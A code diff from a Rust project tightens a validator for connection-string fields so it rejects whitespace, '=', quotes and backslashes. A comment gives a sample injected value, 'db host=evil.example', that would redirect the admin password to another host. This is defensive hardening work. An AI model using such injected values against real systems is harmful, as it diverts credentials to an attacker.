@@ -87,11 +87,18 @@ impl From<ConnectionRecord> for ConnectionView {
 }
 
 /// A field of text that lands in a connection string: non-empty, bounded, no control
-/// characters (parse, don't normalise: nothing is trimmed).
+/// characters (parse, don't normalise: nothing is trimmed). Nor whitespace, `=`, `'` or `\`:
+/// agents (SikkerKey's CLI) put these fields into a libpq `key=value` string unquoted, where
+/// `db host=evil.example` would add a key that wins and send the admin password elsewhere.
 fn check_field(what: &str, value: &str) -> CoreResult<()> {
-    if value.is_empty() || value.len() > MAX_FIELD || value.chars().any(char::is_control) {
+    if value.is_empty()
+        || value.len() > MAX_FIELD
+        || value
+            .chars()
+            .any(|c| c.is_control() || c.is_whitespace() || matches!(c, '=' | '\'' | '\\'))
+    {
         return Err(CoreError::bad(format!(
-            "{what} must be 1-{MAX_FIELD} characters without control characters"
+            "{what} must be 1-{MAX_FIELD} characters without spaces, control characters, =, ' or \\"
         )));
     }
     Ok(())
